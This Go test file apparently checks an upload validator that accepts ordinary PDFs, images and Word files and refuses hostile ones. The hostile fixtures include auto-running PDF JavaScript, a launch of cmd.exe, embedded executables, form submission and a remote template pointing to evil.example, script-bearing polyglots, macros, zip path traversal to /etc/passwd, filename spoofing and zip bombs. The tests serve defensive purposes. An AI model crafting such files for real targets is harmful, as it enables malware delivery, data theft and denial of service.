package depot_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"

	"github.com/g60-corridor/corridor/internal/depot"
	"github.com/g60-corridor/corridor/internal/depot/depottest"
)

func packed(t *testing.T, more ...depottest.Entry) []byte {
	t.Helper()
	return depottest.Office(more...)
}

type zero struct{}

func (zero) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// bomb is an Office file with an entry of so many zeros; lying says that the directory names a small size.
func bomb(t *testing.T, n int64, lying bool) []byte {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, name := range []string{"[Content_Types].xml", "word/a.xml", "word/b.xml"} {
		w, err := z.Create(name)
		if err == nil {
			_, err = io.CopyN(w, zero{}, 10)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	w, err := z.Create("word/z.xml")
	if err == nil {
		_, err = io.CopyN(w, zero{}, n)
	}
	if err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	b := out.Bytes()
	if lying {
		size := binary.LittleEndian.AppendUint32(nil, uint32(n))
		b = bytes.ReplaceAll(b, size, binary.LittleEndian.AppendUint32(nil, 1000))
	}
	return b
}

// encrypted sets the flag of an encrypted entry in every header.
func encrypted(b []byte) []byte {
	b = bytes.Clone(b)
	for i := range len(b) - 10 {
		switch {
		case bytes.HasPrefix(b[i:], []byte("PK\x01\x02")):
			b[i+8] |= 1
		case bytes.HasPrefix(b[i:], []byte("PK\x03\x04")):
			b[i+6] |= 1
		}
	}
	return b
}

func TestGoodPapersAreTaken(t *testing.T) {
	d, err := depot.Open(t.Context(), "mem://")
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		file []byte
		kind string
	}{
		"PDF":                {depottest.PDF(3, ""), "application/pdf"},
		"PDF with a link":    {depottest.PDF(1, "/OpenAction << /S /GoTo /D [ 10 0 R /Fit ] >>"), "application/pdf"},
		"PNG":                {depottest.PNG(40, 30), "image/png"},
		"JPEG":               {depottest.JPEG(40, 30), "image/jpeg"},
		"text":               {[]byte("催化剂的说明\n"), "text/plain"},
		"Word":               {packed(t), depot.Papers[4]},
		"Word with a chart":  {packed(t, depottest.Entry{Name: "word/embeddings/sheet1.xlsx", Body: "x"}), depot.Papers[4]},
		"Word with repeated": {packed(t, depottest.Entry{Name: "word/long.xml", Body: strings.Repeat("<p>same</p>", 100_000)}), depot.Papers[4]},
	} {
		s, err := d.Take(t.Context(), bytes.NewReader(c.file), depot.Terms{Most: 20 << 20, Types: depot.Papers, Field: "file"})
		if err != nil || s.Type != c.kind {
			t.Errorf("%s: %+v, %v", name, s, err)
		}
	}
}

// What an enemy hands in is refused with its reason, and nothing of it stays.
func TestHostilePapers(t *testing.T) {
	folder := t.TempDir()
	d, err := depot.Open(t.Context(), folder)
	if err != nil {
		t.Fatal(err)
	}
	pdf, png, jpg, office := depottest.PDF(1, ""), depottest.PNG(40, 30), depottest.JPEG(40, 30), packed(t)
	join := func(parts ...[]byte) []byte { return bytes.Join(parts, nil) }
	stream := func(dict string, body []byte) string {
		return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(body), body)
	}
	for name, c := range map[string]struct {
		file []byte
		want string
	}{
		"PDF that runs a script when opened": {depottest.PDF(1, "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "FILE_ACTIVE"},
		"PDF with scripts by name":           {depottest.PDF(1, "/Names << /JavaScript << /Names [ (a) << /S /JavaScript /JS (1) >> ] >> >>"), "FILE_ACTIVE"},
		"PDF that starts a program":          {depottest.PDF(1, "/OpenAction << /S /Launch /F (cmd.exe) >>"), "FILE_ACTIVE"},
		"PDF that carries a file": {depottest.PDF(1, "/Names << /EmbeddedFiles << /Names [ (a) 10 0 R ] >> >>",
			"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>", stream("/Type /EmbeddedFile", []byte("MZ"))), "FILE_ACTIVE"},
		"PDF with a form that is sent":   {depottest.PDF(1, "", "<< /S /SubmitForm /F (http://evil.example) >>"), "FILE_ACTIVE"},
		"PDF with a script in an object": {depottest.PDF(1, "", "<< /S /JavaScript /JS 11 0 R >>", stream("", []byte("app.alert(1)"))), "FILE_ACTIVE"},
		"PDF with an archive behind":     {join(pdf, office), "FILE_DOUBLE"},
		"PDF with a page behind":         {join(pdf, []byte("<script>alert(1)</script>")), "FILE_DOUBLE"},
		"PDF with a page before":         {join([]byte("%PDF-1.7\n<html><script>alert(1)</script>\n"), pdf), "FILE_DOUBLE"},
		"archive before a PDF":           {join(office, pdf), "FILE_"},
		"PDF without an end":             {pdf[:len(pdf)-30], "FILE_BROKEN"},
		"PDF of nothing":                 {[]byte("%PDF-1.7\n%%EOF\n"), "FILE_BROKEN"},
		"PNG with a page behind":         {join(png, []byte("<html><script>alert(1)</script>")), "FILE_DOUBLE"},
		"PNG with an archive behind":     {join(png, office), "FILE_DOUBLE"},
		"PNG cut off":                    {png[:len(png)-20], "FILE_BROKEN"},
		"PNG that says it is a field":    {patched(png, 16, []byte{0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff}), "FILE_B"},
		"JPEG with a script behind":      {join(jpg, []byte("<script>alert(1)</script>")), "FILE_DOUBLE"},
		"JPEG with a script in it":       {commented(jpg, "<script>alert(1)</script>"), "FILE_DOUBLE"},
		"Word with macros":               {packed(t, depottest.Entry{Name: "word/vbaProject.bin", Body: "x"}), "FILE_ACTIVE"},
		"Word with a foreign object":     {packed(t, depottest.Entry{Name: "word/embeddings/oleObject1.bin", Body: "x"}), "FILE_ACTIVE"},
		"Word with a template from afar": {packed(t, depottest.Entry{Name: "word/_rels/settings.xml.rels", Body: `<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`}), "FILE_ACTIVE"},
		"Word that leaves its folder":    {packed(t, depottest.Entry{Name: "../../etc/passwd", Body: "x"}), "FILE_DOUBLE"},
		"Word with an absolute path":     {packed(t, depottest.Entry{Name: "/etc/passwd", Body: "x"}), "FILE_DOUBLE"},
		"Word with a drive":              {packed(t, depottest.Entry{Name: `C:\x`, Body: "x"}), "FILE_DOUBLE"},
		"Word with a name turned round":  {packed(t, depottest.Entry{Name: "word/a\u202egpj.exe", Body: "x"}), "FILE_DOUBLE"},
		"Word with an entry twice":       {packed(t, depottest.Entry{Name: "word/Document.xml", Body: "x"}), "FILE_DOUBLE"},
		"Word with something behind":     {join(office, []byte("<script>")), "FILE_DOUBLE"},
		"Word that is encrypted":         {encrypted(office), "FILE_ENCRYPTED"},
		"Word that is a bomb":            {bomb(t, 200<<20, false), "FILE_BOMB"},
		"Word that is a bomb and lies":   {bomb(t, 300<<20, true), "FILE_B"},
		"Word that is damaged":           {patched(office, 60, []byte("????????")), "FILE_BROKEN"},
		"text with a page in it":         {[]byte("notes\n<script>alert(1)</script>\n"), "FILE_"},
	} {
		t.Run(name, func(t *testing.T) {
			s, err := d.Take(t.Context(), bytes.NewReader(c.file), depot.Terms{Most: 20 << 20, Types: depot.Papers, Field: "file"})
			if err == nil || !strings.HasPrefix(err.Error(), "invalid: file "+c.want) {
				t.Errorf("%+v, %v, want %s", s, err, c.want)
			}
		})
	}
	if left, err := os.ReadDir(folder); err != nil || len(left) > 0 {
		t.Errorf("%d files were left behind, %v", len(left), err)
	}
}

func patched(b []byte, at int, with []byte) []byte {
	b = bytes.Clone(b)
	copy(b[at:], with)
	return b
}

// commented is a JPEG with a comment.
func commented(jpg []byte, text string) []byte {
	comment := append([]byte{0xff, 0xfe, byte((len(text) + 2) >> 8), byte(len(text) + 2)}, text...)
	return append(append(bytes.Clone(jpg[:2]), comment...), jpg[2:]...)
}

// A body without an end is read as far as the limit and no further, and leaves nothing on the disk.
func TestABodyWithoutEnd(t *testing.T) {
	folder, desk := t.TempDir(), t.TempDir()
	t.Setenv("TMPDIR", desk)
	d, err := depot.Open(t.Context(), folder)
	if err != nil {
		t.Fatal(err)
	}
	endless := &counted{r: zero{}}
	_, err = d.Take(t.Context(), endless, depot.Terms{Most: 1 << 20, Types: depot.Papers, Field: "file"})
	if err == nil || err.Error() != "invalid: file FILE_TOO_LARGE" || endless.n > 2<<20 {
		t.Errorf("%v after %d bytes", err, endless.n)
	}
	for _, f := range []string{folder, desk} {
		if left, err := os.ReadDir(f); err != nil || len(left) > 0 {
			t.Errorf("%d files were left behind, %v", len(left), err)
		}
	}
}

type counted struct {
	r io.Reader
	n int
}

func (c *counted) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += n
	return n, err
}

func TestNamesAreForPeopleToRead(t *testing.T) {
	for in, want := range map[string]string{
		"报告.pdf": "报告", "report.pdf.exe": "report", `C:\Users\x\报告 v2.docx`: "报告 v2", "../../etc/passwd": "passwd",
		"a\u202egpj.exe": "agpj", "\x00\x01": "", "...": "", ".pdf": "", "a\nb.pdf": "ab", "<script>.pdf": "<script>", "x/": "x",
		strings.Repeat("长", 300) + ".pdf": strings.Repeat("长", 120) + "…", "\xff\xfe.pdf": "",
	} {
		if got := depot.Name(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}
